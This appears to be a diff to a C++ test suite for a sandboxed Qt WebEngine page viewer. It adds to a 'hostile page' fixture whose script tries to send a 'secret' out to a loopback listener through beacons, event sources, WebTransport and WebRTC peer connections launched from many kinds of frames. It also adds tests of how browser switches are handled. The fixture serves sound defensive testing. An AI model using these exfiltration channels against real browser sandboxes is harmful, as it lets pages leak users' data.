@@ -35,8 +35,8 @@ const QString Page = u"H:\\my pages\\lesson 1.htm"_s;
 
 // A page that tries every way out: reading files near and far, and reaching a listener on
 // loopback (PORT) by every kind of request, socket, form, navigation, worker and peer
-// connection. It writes what its reads gave into #reads, and marks the body done at the end,
-// after its attempts to leave.
+// connection, the last from frames of every kind too. It writes what its reads gave into #reads,
+// and marks the body done at the end, after its attempts to leave.
 const char HostilePage[] = R"(<html><head><title>Hostile</title>
 <link rel=stylesheet href="hostile_files/style.css">
 <link rel=stylesheet href="http://127.0.0.1:PORT/style">
@@ -87,12 +87,65 @@ attempt(function () { navigator.sendBeacon('http://127.0.0.1:PORT/beacon', 'secr
 attempt(function () { new EventSource('http://127.0.0.1:PORT/events'); });
 attempt(function () { window.open('http://127.0.0.1:PORT/window'); });
 attempt(function () { new WebTransport('https://127.0.0.1:PORT/transport').ready.catch(function () {}); });
-attempt(function () {
-    var peer = new RTCPeerConnection({iceServers: [
-        {urls: 'turn:127.0.0.1:PORT?transport=tcp', username: 'secret', credential: 'x'},
+// A peer connection asks a relay server (TURN over TCP and UDP, STUN); a pair of them offer
+// each other the listener's address as a candidate, over UDP and TCP.
+function peer(w) {
+    var relay = new w.RTCPeerConnection({iceServers: [
+        {urls: ['turn:127.0.0.1:PORT?transport=tcp', 'turn:127.0.0.1:PORT?transport=udp'],
+         username: 'secret', credential: 'x'},
         {urls: 'stun:127.0.0.1:PORT'}]});
-    peer.createDataChannel('out');
-    peer.createOffer().then(function (offer) { peer.setLocalDescription(offer); });
+    relay.createDataChannel('out');
+    relay.createOffer().then(function (offer) { relay.setLocalDescription(offer); });
+    var caller = new w.RTCPeerConnection();
+    var callee = new w.RTCPeerConnection();
+    caller.createDataChannel('out');
+    caller.createOffer().then(function (offer) {
+        caller.setLocalDescription(offer);
+        return callee.setRemoteDescription(offer);
+    }).then(function () { return callee.createAnswer(); })
+      .then(function (answer) { return callee.setLocalDescription(answer); })
+      .then(function () {
+        ['udp 2122260223 127.0.0.1 PORT typ host',
+         'tcp 1518280447 127.0.0.1 PORT typ host tcptype passive'].forEach(function (c, i) {
+            callee.addIceCandidate({candidate: 'candidate:' + i + ' 1 ' + c, sdpMid: '0'});
+        });
+    }).catch(function () {});
+}
+function frameIn(doc) {
+    var frame = doc.createElement('iframe');
+    doc.body.appendChild(frame);
+    return frame;
+}
+// From the page, and from frames of every kind: empty, found by index, made by markup,
+// nested, written into, from srcdoc, an object's about:blank.
+attempt(function () { peer(window); });
+attempt(function () { peer(frameIn(document).contentWindow); });
+attempt(function () { frameIn(document); peer(window[window.length - 1]); });
+attempt(function () {
+    var holder = document.createElement('div');
+    holder.innerHTML = '<iframe></iframe>';
+    document.body.appendChild(holder);
+    peer(holder.firstChild.contentWindow);
+});
+attempt(function () { peer(frameIn(frameIn(document).contentDocument).contentWindow); });
+attempt(function () {
+    var child = frameIn(document).contentDocument;
+    child.open();
+    child.write('<script>parent.peer(window)<\/script>');
+    child.close();
+});
+attempt(function () {
+    var frame = document.createElement('iframe');
+    frame.srcdoc = '<script>parent.peer(window)<\/script>';
+    frame.onload = function () { attempt(function () { peer(frame.contentWindow); }); };
+    document.body.appendChild(frame);
+});
+attempt(function () {
+    var object = document.createElement('object');
+    object.type = 'text/html';
+    object.data = 'about:blank';
+    object.onload = function () { attempt(function () { peer(object.contentWindow); }); };
+    document.body.appendChild(object);
 });
 setTimeout(function () { document.forms.out.submit(); }, 300);
 setTimeout(function () { location.href = 'http://127.0.0.1:PORT/location'; }, 600);
@@ -109,6 +162,7 @@ protected:
         // Software compositing whatever the platform: the tests need no graphics card.
         if (qEnvironmentVariableIsEmpty("QTWEBENGINE_CHROMIUM_FLAGS"))
             qputenv("QTWEBENGINE_CHROMIUM_FLAGS", "--disable-gpu");
+        givenSwitches = qgetenv("QTWEBENGINE_CHROMIUM_FLAGS");
     }
 
     void SetUp() override
@@ -123,6 +177,12 @@ protected:
         QImage picture(3, 2, QImage::Format_RGB32);
         picture.fill(Qt::red);
         picture.save(homePath(u"my pages/picture.png"_s));
+        openViewer();
+    }
+
+    // A new viewer window in place of the one before.
+    void openViewer()
+    {
         view = std::make_unique<frmView>();
         browser = view->findChild<QWebEngineView *>(u"wb1"_s);
         ASSERT_TRUE(browser);
@@ -154,6 +214,8 @@ protected:
         return *result;
     }
 
+    // The switches for the browser that the tests give, before a viewer started it.
+    static inline QByteArray givenSwitches;
     std::unique_ptr<frmView> view;
     QWebEngineView *browser = nullptr;
 };
@@ -238,32 +300,64 @@ TEST_F(ViewerTest, HostScriptReadsTheModalWindow)
 }
 
 // A host that made its application before it loaded the library, as a plugin loader does.
-// One that had started a browser of its own by then leaves the viewer without its scheme:
-// the viewer shows no page rather than an unsealed one.
+// One that had started a browser of its own by then started it without the viewer's scheme
+// and switches: the viewer shows no page rather than an unsealed one. The switches that a host
+// gives the browser stay beside the viewer's.
 TEST_F(ViewerTest, LibraryLoadedAfterTheApplicationShowsPagesSealedOrNotAtAll)
 {
+    // The page's title tells whether the browser took the host's switch.
+    writeFile(homePath(u"my pages/gc.htm"_s), "<script>document.title = typeof gc</script>");
+    const QString gcPage = u"H:\\my pages\\gc.htm"_s;
     struct Case
     {
+        QString dosPath;
         QStringList options;
+        std::optional<QByteArray> switches; // the host's QTWEBENGINE_CHROMIUM_FLAGS
         QByteArray title;
     };
     const Case cases[] = {
-        {{}, "Lesson one\n"},
-        {{u"--browser-first"_s},
+        {Page, {}, "--disable-gpu", "Lesson one\n"},
+        {Page,
+         {u"--browser-first"_s},
+         "--disable-gpu",
          "The file \"" + Page.toUtf8() +
-             "\" cannot be shown: the viewer was loaded after the program had started a browser "
-             "of its own.\n"},
+             "\" cannot be shown: the program had started a browser of its own before it first "
+             "opened the viewer.\n"},
+        {gcPage,
+         {},
+         "--disable-gpu \"--js-flags=--allow-natives-syntax --expose-gc\"",
+         "function\n"},
+        {gcPage,
+         {u"--webEngineArgs"_s, u"--disable-gpu"_s,
+          u"--js-flags=--allow-natives-syntax --expose-gc"_s},
+         std::nullopt,
+         "function\n"},
     };
     for (const Case &c : cases) {
-        SCOPED_TRACE(c.options.join(u' ').toStdString());
+        SCOPED_TRACE(
+            (c.options.join(u' ') + u" | "_s + QString::fromUtf8(c.switches.value_or("unset")))
+                .toStdString());
+        QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
+        if (c.switches)
+            environment.insert(u"QTWEBENGINE_CHROMIUM_FLAGS"_s, QString::fromUtf8(*c.switches));
+        else
+            environment.remove(u"QTWEBENGINE_CHROMIUM_FLAGS"_s);
         QProcess host;
+        host.setProcessEnvironment(environment);
         host.start(QStringLiteral(VELLIX_LATE_HOST),
-                   QStringList{QStringLiteral(VELLIX_LATE_PLUGIN), Page} + c.options);
+                   QStringList{QStringLiteral(VELLIX_LATE_PLUGIN), c.dosPath} + c.options);
         ASSERT_TRUE(host.waitForFinished(LoadWaitMs));
         EXPECT_EQ(host.exitStatus(), QProcess::NormalExit);
         EXPECT_EQ(host.exitCode(), 0) << host.readAllStandardError().toStdString();
         EXPECT_EQ(host.readAllStandardOutput(), c.title);
     }
+}
+
+// The viewer's switches for the browser go with its start: programs that the host starts
+// later (the desktop's browser among them) find the environment as it was.
+TEST_F(ViewerTest, ProgramsStartedLaterFindTheEnvironmentAsItWas)
+{
+    EXPECT_EQ(qgetenv("QTWEBENGINE_CHROMIUM_FLAGS"), givenSwitches);
 }
 
 // The hostile page: the listener hears nothing, the reads fail but for the page's own file,
@@ -327,6 +421,9 @@ TEST_F(ViewerTest, LinksOpenFilesOfThePageFolderOnly)
     };
     for (const Case &c : cases) {
         SCOPED_TRACE(c.link.toStdString());
+        // A window of its own for each link: a navigation refused late may still cancel the
+        // next load of the window.
+        openViewer();
         ASSERT_EQ(show(u"H:\\my pages\\links.htm"_s), true);
         QSignalSpy loaded(browser, &QWebEngineView::loadFinished);
         evaluate(u"document.getElementById('%1').click()"_s.arg(c.link));
